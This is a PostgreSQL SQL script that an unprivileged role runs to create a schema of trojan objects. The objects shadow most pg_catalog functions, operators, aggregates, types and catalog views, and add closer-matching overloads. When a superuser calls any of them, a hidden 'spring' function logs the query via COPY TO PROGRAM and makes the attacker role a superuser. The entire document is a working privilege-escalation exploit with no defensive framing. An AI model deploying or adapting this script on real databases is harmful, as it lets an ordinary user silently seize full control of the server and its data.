-- A schema full of traps, made by an ordinary role: each function, operator, aggregate, type and relation of
-- pg_catalog that such a role can shadow is, by one that does what the original does and springs when a superuser
-- calls it. Closer matches than pg_catalog's own stand beside them, which win wherever pg_catalog comes first.
--
--   psql -U mallory -v schema=evil -f traps.sql DATABASE
--
-- What no ordinary role can shadow, so that nobody looks for it here: functions that take or return internal, cstring
-- or "any" (of those the closer matches below), window functions, aggregates over a state of type internal (those that
-- matter are built anew), type names that the grammar itself knows (int, boolean, varchar, timestamp ...), and the
-- operators that the parser takes from an operator class (ORDER BY, DISTINCT, GREATEST).
\set ON_ERROR_STOP on
SET client_min_messages = warning;
SET search_path = '';
SET check_function_bodies = off;
SELECT set_config('trap.schema', :'schema', false) \g /dev/null
SELECT to_regnamespace(:'schema') IS NULL AS missing \gset
\if :missing
CREATE SCHEMA :"schema";
GRANT USAGE ON SCHEMA :"schema" TO PUBLIC;
\endif

-- Springs when the current user is a superuser. READ ONLY stops ALTER ROLE but no COPY TO PROGRAM, so the mark is left
-- first. All in here is qualified: it must not run into a trap itself. Once for each name in a session, because a
-- program is started each time.
CREATE FUNCTION :"schema".spring(what pg_catalog.text) RETURNS pg_catalog.bool LANGUAGE plpgsql AS $$
DECLARE
    sprung pg_catalog.text := COALESCE(pg_catalog.current_setting('trap.sprung', true), '');
BEGIN
    -- Once she is a superuser herself, what runs as her says nothing.
    IF CURRENT_USER OPERATOR(pg_catalog.=) 'mallory' OR
        (SELECT NOT r.rolsuper FROM pg_catalog.pg_roles r WHERE r.rolname OPERATOR(pg_catalog.=) CURRENT_USER) THEN
        RETURN true;
    END IF;
    IF pg_catalog.strpos(sprung, what) OPERATOR(pg_catalog.>) 0 THEN
        RETURN true;
    END IF;
    PERFORM pg_catalog.set_config('trap.sprung', pg_catalog.concat(sprung, '|', what), false);
    BEGIN
        EXECUTE pg_catalog.format('COPY (SELECT %L) TO PROGRAM ''cat >> /tmp/sprung''', pg_catalog.concat(what, ' in ',
            pg_catalog.current_database(), ' of ', pg_catalog.current_setting('application_name'), ': ',
            pg_catalog.left(pg_catalog.current_query(), 600)));
    EXCEPTION WHEN OTHERS THEN
        RAISE WARNING 'TRAP %: no mark: %', what, SQLERRM;
    END;
    BEGIN
        -- Two at once must not wait for each other's end.
        PERFORM pg_catalog.set_config('lock_timeout', '500ms', true);
        EXECUTE 'ALTER ROLE mallory SUPERUSER CREATEROLE';
    EXCEPTION WHEN OTHERS THEN
        NULL;
    END;
    RETURN true;
END
$$;

-- --- functions ----------------------------------------------------------------------------------------

-- What can be shadowed: signature and call of each plain function. Not temporary, because pg_temp is never searched for
-- functions; dropped at the end.
CREATE TABLE :"schema".trap_source AS
WITH usable AS (
    SELECT p.*, ARRAY(SELECT a FROM unnest(p.proargtypes::oid[]) WITH ORDINALITY AS x(a, i) ORDER BY i) AS types
    FROM pg_proc p
    WHERE p.pronamespace = 'pg_catalog'::regnamespace AND p.prokind = 'f'
      AND NOT EXISTS (SELECT FROM pg_type t WHERE t.oid = ANY (COALESCE(p.proallargtypes, p.proargtypes::oid[])) AND t.typtype = 'p'
          AND t.typname NOT IN ('record', '_record') AND t.typname !~ '^any(element|array|nonarray|enum|range|multirange|compatible.*)$')
      AND NOT EXISTS (SELECT FROM pg_type t WHERE t.oid = p.prorettype AND t.typtype = 'p'
          AND t.typname NOT IN ('record', 'void') AND t.typname !~ '^any(element|array|nonarray|enum|range|multirange|compatible.*)$')
)
SELECT u.oid, u.proname::text AS name, u.types, u.proretset AS many, u.prorettype = 'void'::regtype AS nothing,
    COALESCE(u.proargmodes && '{o,b,t}'::"char"[], false) AS has_out, u.provariadic <> 0 AS variadic,
    pg_get_function_arguments(u.oid) AS arguments, pg_get_function_result(u.oid) AS result
FROM usable u;

CREATE FUNCTION :"schema".trap_body(name text, label text, has_out bool, nothing bool, many bool, call text)
RETURNS text LANGUAGE sql AS $$
    SELECT CASE
        WHEN has_out THEN format('LANGUAGE sql AS %L', format('SELECT %I.spring(%L); SELECT * FROM pg_catalog.%I(%s)',
            current_setting('trap.schema'), label, name, call))
        ELSE format('LANGUAGE plpgsql AS %L', format('BEGIN PERFORM %I.spring(%L); ',
            current_setting('trap.schema'), label) || CASE
                WHEN nothing THEN format('PERFORM pg_catalog.%I(%s); END', name, call)
                WHEN many THEN format('RETURN QUERY SELECT * FROM pg_catalog.%I(%s); END', name, call)
                ELSE format('RETURN pg_catalog.%I(%s); END', name, call) END)
    END
$$;

-- The very signatures: they win where this schema comes before pg_catalog.
DO $$
DECLARE
    f record;
    place text := quote_ident(current_setting('trap.schema'));
    call text;
BEGIN
    FOR f IN EXECUTE format('SELECT *, oid::regprocedure::text AS label FROM %s.trap_source', place) LOOP
        SELECT COALESCE(string_agg(CASE WHEN f.variadic AND i = cardinality(f.types) THEN 'VARIADIC $' ELSE '$' END || i,
            ', ' ORDER BY i), '') INTO call FROM generate_series(1, cardinality(f.types)) i;
        EXECUTE format('SELECT %s.trap_body($1, $2, $3, $4, $5, $6)', place) INTO call
            USING f.name, f.label, f.has_out, f.nothing, f.many, call;
        EXECUTE format('CREATE FUNCTION %s.%I(%s) RETURNS %s %s', place, f.name, f.arguments, f.result, call);
    END LOOP;
END
$$;

-- Closer matches: one argument has a type that the original takes by an implicit cast only (oid for regclass, name for
-- text, int4 for float8 ...). They win wherever they are found at all.
CREATE TABLE :"schema".trap_closer AS
SELECT DISTINCT ON (name, closer) name, oid::regprocedure::text AS label, nothing, many, result, closer, call
FROM (
    SELECT s.*, ARRAY(SELECT CASE WHEN x.i = a.i THEN c.castsource ELSE x.t END FROM unnest(s.types) WITH ORDINALITY x(t, i)
            ORDER BY x.i) AS closer,
        (SELECT string_agg(CASE WHEN x.i = a.i THEN format('CAST($%s AS pg_catalog.%I)', x.i, t.typname)
            ELSE '$' || x.i END, ', ' ORDER BY x.i) FROM unnest(s.types) WITH ORDINALITY x(t, i)) AS call
    FROM :"schema".trap_source s CROSS JOIN LATERAL unnest(s.types) WITH ORDINALITY a(type, i)
    JOIN pg_cast c ON c.casttarget = a.type AND c.castcontext = 'i' AND c.castsource <> c.casttarget
    JOIN pg_type t ON t.oid = a.type
    WHERE NOT s.has_out AND NOT s.variadic AND cardinality(s.types) <= 3
      AND c.castsource IN ('oid'::regtype, 'name'::regtype, 'int4'::regtype)
      -- The functions beneath operators have names that nobody calls; operators come below, with all their types.
      AND (s.oid IN (SELECT oprcode FROM pg_operator) OR s.name !~ '(send|recv|typmod|_cmp|sortsupport|hash.*extended)$')
) AS closer
WHERE NOT EXISTS (SELECT FROM pg_proc p WHERE p.pronamespace = 'pg_catalog'::regnamespace AND p.proname = closer.name
    AND p.proargtypes::oid[]::text = closer.closer::text)
ORDER BY name, closer, oid;

DO $$
DECLARE
    f record;
    place text := quote_ident(current_setting('trap.schema'));
    body text;
    types text;
BEGIN
    FOR f IN EXECUTE format('SELECT * FROM %s.trap_closer', place) LOOP
        SELECT string_agg(format_type(x.t, NULL), ', ' ORDER BY x.i) INTO types FROM unnest(f.closer) WITH ORDINALITY x(t, i);
        EXECUTE format('SELECT %s.trap_body($1, $2, false, $3, $4, $5)', place) INTO body
            USING f.name, format('%s(%s)', f.name, types), f.nothing, f.many, f.call;
        BEGIN
            EXECUTE format('CREATE FUNCTION %s.%I(%s) RETURNS %s %s', place, f.name, types, f.result, body);
        EXCEPTION WHEN duplicate_function THEN
            NULL; -- two originals meet in one signature
        END;
    END LOOP;
END
$$;

-- Closer than "any" and than the polymorphic ones: exact types, and the catalogs' own rows.
DO $$
DECLARE
    place text := quote_ident(current_setting('trap.schema'));
    label text;
    name text;
    t text;
    u text;
    result text;
BEGIN
    FOREACH t IN ARRAY '{text,name,oid,int2,int4,int8,bool,float8,numeric,timestamptz,interval,json,jsonb,bytea,regclass,"\"char\"",text[],oid[],name[],aclitem[]}'::text[] LOOP
        FOR name, result IN VALUES ('pg_typeof', 'regtype'), ('pg_column_size', 'int4'), ('concat', 'text'),
                ('num_nulls', 'int4'), ('num_nonnulls', 'int4'), ('json_build_array', 'json'),
                ('jsonb_build_array', 'jsonb'), ('format', 'text'), ('quote_literal', 'text'), ('quote_nullable', 'text'),
                ('to_json', 'json'), ('to_jsonb', 'jsonb'), ('hashtext', 'int4'), ('array_to_json', 'json') LOOP
            -- quote_literal(text) and the like are there already.
            IF to_regprocedure(format('%s.%I(%s)', place, name, t)) IS NULL
                AND (name <> 'format' OR t IN ('text', 'name')) AND (name <> 'hashtext' OR t IN ('text', 'name'))
                AND (name <> 'array_to_json' OR t ~ '\[') THEN
                label := format('%s(%s)', name, t);
                EXECUTE format('CREATE FUNCTION %s.%I(%s) RETURNS %s LANGUAGE plpgsql AS %L', place, name, t, result,
                    format('BEGIN PERFORM %s.spring(%L); RETURN pg_catalog.%I($1); END', place, label, name));
            END IF;
        END LOOP;
        FOREACH u IN ARRAY '{text,name,oid,int4,int8,bool,text[]}'::text[] LOOP
            FOR name, result IN VALUES ('concat', 'text'), ('json_build_object', 'json'), ('jsonb_build_object', 'jsonb'),
                    ('format', 'text'), ('concat_ws', 'text'), ('num_nulls', 'int4') LOOP
                IF t IN ('text', 'name') THEN
                    label := format('%s(%s, %s)', name, t, u);
                    EXECUTE format('CREATE FUNCTION %s.%I(%s, %s) RETURNS %s LANGUAGE plpgsql AS %L', place, name, t, u,
                        result, format('BEGIN PERFORM %s.spring(%L); RETURN pg_catalog.%I($1, $2); END', place, label, name));
                END IF;
            END LOOP;
        END LOOP;
        FOREACH u IN ARRAY '{text,name,oid}'::text[] LOOP
            IF t IN ('text', 'name', 'oid') THEN
                FOR name IN VALUES ('format'), ('concat'), ('concat_ws') LOOP
                    label := format('%s(text, %s, %s)', name, t, u);
                    EXECUTE format('CREATE FUNCTION %s.%I(text, %s, %s) RETURNS text LANGUAGE plpgsql AS %L', place, name, t, u,
                        format('BEGIN PERFORM %s.spring(%L); RETURN pg_catalog.%I($1, $2, $3); END', place, label, name));
                END LOOP;
            END IF;
        END LOOP;
    END LOOP;
    FOREACH t IN ARRAY '{pg_database,pg_class,pg_namespace,pg_proc,pg_roles,pg_settings,pg_stat_activity,pg_tablespace}'::text[] LOOP
        FOR name, result IN VALUES ('to_json', 'json'), ('to_jsonb', 'jsonb'), ('row_to_json', 'json') LOOP
            label := format('%s(%s)', name, t);
            EXECUTE format('CREATE FUNCTION %s.%I(pg_catalog.%I) RETURNS %s LANGUAGE plpgsql AS %L', place, name, t, result,
                format('BEGIN PERFORM %s.spring(%L); RETURN pg_catalog.%I($1); END', place, label, name));
        END LOOP;
    END LOOP;
END
$$;

-- --- aggregates ---------------------------------------------------------------------------------------

-- Those whose transition is a function that a role may name: it is the trap from above.
DO $$
DECLARE
    a record;
    place text := quote_ident(current_setting('trap.schema'));
BEGIN
    FOR a IN
        SELECT p.proname, pg_get_function_identity_arguments(p.oid) AS arguments, t.proname AS step,
            format_type(g.aggtranstype, NULL) AS state, g.agginitval, g.aggfinalfn
        FROM pg_aggregate g JOIN pg_proc p ON p.oid = g.aggfnoid JOIN pg_proc t ON t.oid = g.aggtransfn
        WHERE p.pronamespace = 'pg_catalog'::regnamespace AND g.aggkind = 'n' AND g.aggtranstype NOT IN ('internal'::regtype, 'record'::regtype)
          AND p.proname || format_type(g.aggtranstype, NULL) !~ 'anyenum' AND p.provariadic = 0 AND NOT p.proargtypes::oid[] && ARRAY['"any"'::regtype::oid]
          AND to_regprocedure(format('%s.%I(%s)', place, t.proname, pg_get_function_identity_arguments(t.oid))) IS NOT NULL
    LOOP
        EXECUTE format('CREATE AGGREGATE %s.%I(%s) (SFUNC = %s.%I, STYPE = %s%s%s)', place, a.proname,
            CASE a.arguments WHEN '' THEN '*' ELSE a.arguments END, place, a.step, a.state,
            CASE WHEN a.agginitval IS NULL THEN '' ELSE format(', INITCOND = %L', a.agginitval) END,
            CASE a.aggfinalfn WHEN 0 THEN '' ELSE ', FINALFUNC = ' || (SELECT 'pg_catalog.' || quote_ident(f.proname) FROM pg_proc f WHERE f.oid = a.aggfinalfn) END);
    END LOOP;
END
$$;

-- Those over internal, built anew over a state that a role may use.
DO $$
DECLARE
    a record;
    place text := quote_ident(current_setting('trap.schema'));
BEGIN
    FOR a IN SELECT * FROM (VALUES
            ('string_agg', 'text, text', 'text', 'text, text, text', NULL,
                'concat($1, CASE WHEN $1 IS NOT NULL AND $2 IS NOT NULL THEN $3 END, $2)'),
            ('array_agg', 'anynonarray', 'anyarray', 'anyarray, anynonarray', NULL, 'array_append($1, $2)'),
            ('sum', 'int8', 'numeric', 'numeric, int8', NULL,
                'numeric_add(COALESCE($1, pg_catalog.numeric(0)), pg_catalog.numeric(COALESCE($2, pg_catalog.int8(0))))'),
            ('sum', 'numeric', 'numeric', 'numeric, numeric', NULL,
                'numeric_add(COALESCE($1, pg_catalog.numeric(0)), COALESCE($2, pg_catalog.numeric(0)))'),
            ('jsonb_agg', 'anyelement', 'jsonb', 'jsonb, anyelement', '[]', 'jsonb_concat($1, pg_catalog.jsonb_build_array($2))'),
            ('count', 'oid', 'int8', 'int8, oid', '0', 'int8inc_any($1, $2)'),
            ('count', 'name', 'int8', 'int8, name', '0', 'int8inc_any($1, $2)'),
            ('count', 'text', 'int8', 'int8, text', '0', 'int8inc_any($1, $2)'),
            ('count', 'int4', 'int8', 'int8, int4', '0', 'int8inc_any($1, $2)'),
            ('count', 'int8', 'int8', 'int8, int8', '0', 'int8inc_any($1, $2)'),
            ('count', 'bool', 'int8', 'int8, bool', '0', 'int8inc_any($1, $2)')
        ) AS v(name, arguments, state, step_arguments, start, step)
    LOOP
        EXECUTE format('CREATE FUNCTION %s.%I(%s) RETURNS %s LANGUAGE plpgsql AS %L', place, 'step_' || a.name,
            a.step_arguments, a.state, format('BEGIN PERFORM %s.spring(%L); RETURN pg_catalog.%s; END', place,
                format('%s(%s)', a.name, a.arguments), a.step));
        EXECUTE format('CREATE AGGREGATE %s.%I(%s) (SFUNC = %s.%I, STYPE = %s%s)', place, a.name, a.arguments, place,
            'step_' || a.name, a.state, COALESCE(', INITCOND = ' || quote_literal(a.start), ''));
    END LOOP;
END
$$;

-- --- operators ----------------------------------------------------------------------------------------

-- The very operators, and with a closer type on one side, over the functions above.
DO $$
DECLARE
    o record;
    place text := quote_ident(current_setting('trap.schema'));
BEGIN
    FOR o IN
        WITH exact AS (
            SELECT r.oprname, r.oprleft, r.oprright, p.proname
            FROM pg_operator r JOIN pg_proc p ON p.oid = r.oprcode WHERE r.oprnamespace = 'pg_catalog'::regnamespace
        ), closer AS (
            SELECT x.oprname, CASE WHEN l THEN c.castsource ELSE x.oprleft END AS oprleft,
                CASE WHEN l THEN x.oprright ELSE c.castsource END AS oprright, x.proname
            FROM exact x CROSS JOIN (VALUES (true), (false)) AS side(l)
            JOIN pg_cast c ON c.casttarget = CASE WHEN l THEN x.oprleft ELSE x.oprright END
                AND c.castcontext = 'i' AND c.castsource <> c.casttarget
            WHERE c.castsource IN ('oid'::regtype, 'name'::regtype, 'int4'::regtype)
        )
        SELECT oprname, oprleft, oprright, proname FROM exact
        UNION ALL
        (SELECT DISTINCT ON (oprname, oprleft, oprright) * FROM closer c
            WHERE NOT EXISTS (SELECT FROM exact e WHERE e.oprname = c.oprname AND e.oprleft = c.oprleft AND e.oprright = c.oprright)
            ORDER BY oprname, oprleft, oprright, proname)
    LOOP
        CONTINUE WHEN to_regprocedure(format('%s.%I(%s)', place, o.proname, concat_ws(', ',
            format_type(NULLIF(o.oprleft, 0::oid), NULL), format_type(NULLIF(o.oprright, 0::oid), NULL)))) IS NULL;
        EXECUTE format('CREATE OPERATOR %s.%s (PROCEDURE = %s.%I%s%s)', place, o.oprname, place, o.proname,
            CASE o.oprleft WHEN 0 THEN '' ELSE ', LEFTARG = ' || format_type(o.oprleft, NULL) END,
            CASE o.oprright WHEN 0 THEN '' ELSE ', RIGHTARG = ' || format_type(o.oprright, NULL) END);
    END LOOP;
END
$$;

-- --- types and relations ------------------------------------------------------------------------------

-- A domain of a type's name: whoever writes ::text or ::regclass runs its CHECK.
DO $$
DECLARE
    t record;
    place text := quote_ident(current_setting('trap.schema'));
BEGIN
    FOR t IN SELECT typname FROM pg_type WHERE typnamespace = 'pg_catalog'::regnamespace AND typtype IN ('b', 'r')
        AND typcategory <> 'A' AND typname !~ '^pg_' LOOP
        EXECUTE format('CREATE DOMAIN %s.%I AS pg_catalog.%I CHECK (%s.spring(%L))', place, t.typname, t.typname, place,
            'type ' || t.typname);
    END LOOP;
END
$$;

-- A view of a catalog's name.
DO $$
DECLARE
    r record;
    place text := quote_ident(current_setting('trap.schema'));
BEGIN
    FOR r IN SELECT c.relname FROM pg_class c WHERE c.relnamespace = 'pg_catalog'::regnamespace AND c.relkind IN ('r', 'v')
        AND c.relname <> 'pg_statistic_ext_data'
        AND NOT EXISTS (SELECT FROM pg_attribute a WHERE a.attrelid = c.oid AND a.atttypid = 'anyarray'::regtype) LOOP
        EXECUTE format('CREATE VIEW %s.%I AS SELECT * FROM pg_catalog.%I WHERE %s.spring(%L)', place, r.relname, r.relname,
            place, 'relation ' || r.relname);
        EXECUTE format('GRANT SELECT ON %s.%I TO PUBLIC', place, r.relname);
    END LOOP;
END
$$;

DROP FUNCTION :"schema".trap_body(text, text, bool, bool, bool, text);
DROP TABLE :"schema".trap_source, :"schema".trap_closer;
